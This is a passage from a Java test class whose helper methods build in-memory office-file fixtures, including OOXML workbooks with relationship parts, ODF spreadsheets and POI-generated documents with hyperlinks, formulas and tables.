				"<Relationship Id=\"r1\" Type=\"%s%s\" Target=\"%s\" %s/>".formatted(space, kind, target, mode)));
	}

	private static byte[] with(String part, String space, String kind, String target, String mode) throws IOException {
		return workbook("", relations(part, space, kind, target, mode));
	}

	/** A text as it stands in an attribute or between elements. */
	private static String attribute(String text) {
		return text.replace("&", "&amp;").replace("\"", "&quot;").replace("\n", "&#10;").replace("\t", "&#9;");
	}

	private static String body(String content) {
		return "<w:document xmlns:w=\"w\"><w:p>" + content + "</w:p></w:document>";
	}

	private static byte[] workbook(String cells) throws IOException {
		return workbook(cells, Map.of());
	}

	private static byte[] workbook(String cells, Map<String, String> further) throws IOException {
		Map<String, String> parts = new LinkedHashMap<>();
		parts.put("[Content_Types].xml", TYPES.formatted(""));
		parts.put("xl/workbook.xml", "<workbook/>");
		parts.put("xl/worksheets/sheet1.xml", "<worksheet>" + cells + "</worksheet>");
		parts.putAll(further);
		return zip(parts);
	}

	private static byte[] spreadsheet(String content) throws IOException {
		return spreadsheet(content, Map.of());
	}

	private static byte[] spreadsheet(String content, Map<String, String> further) throws IOException {
		Map<String, String> parts = new LinkedHashMap<>(further);
		parts.put("mimetype", "application/vnd.oasis.opendocument.spreadsheet");
		parts.put("content.xml", ODF.formatted(content));
		return zip(parts);
	}

	private static byte[] openDocument(String content) throws IOException {
		Map<String, String> parts = new LinkedHashMap<>();
		parts.put("mimetype", "application/vnd.oasis.opendocument.text");
		parts.put("content.xml", ODF.formatted(content));
		return zip(parts);
	}

	private static byte[] ofOfficeProgram() throws IOException {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try (XWPFDocument document = new XWPFDocument()) {
			document.createParagraph().createHyperlinkRun("https://example.org/").setText("It is done.");
			document.write(out);
		}
		return out.toByteArray();
	}

	/** A workbook with what people put into one. */
	private static byte[] ofSheetProgram() throws IOException {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try (XSSFWorkbook workbook = new XSSFWorkbook()) {
			XSSFSheet sheet = workbook.createSheet("The plan");
			XSSFRow row = sheet.createRow(1);
			row.createCell(0).setCellFormula("SUM(B1:B9)");
			XSSFHyperlink link = workbook.getCreationHelper().createHyperlink(HyperlinkType.URL);
			link.setAddress("https://example.org/");
			row.createCell(1).setHyperlink(link);
			XSSFName name = workbook.createName();
			name.setNameName("Due");
			name.setRefersToFormula("'The plan'!$A$1:$A$9");
			XSSFSheetConditionalFormatting formats = sheet.getSheetConditionalFormatting();
			formats.addConditionalFormatting(new CellRangeAddress[] { CellRangeAddress.valueOf("A1:A9") },
					formats.createConditionalFormattingRule("$A1>3"));
			sheet.createTable(workbook.getCreationHelper().createAreaReference("A1:B9"));
			workbook.write(out);
		}
		return out.toByteArray();
	}

	private static byte[] zip(Map<String, String> parts) throws IOException {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(out)) {
			for (Map.Entry<String, String> part : parts.entrySet()) {
				zip.putNextEntry(new ZipEntry(part.getKey()));
				zip.write(part.getValue().getBytes(StandardCharsets.ISO_8859_1));
			}
		}
		return out.toByteArray();
	}

}
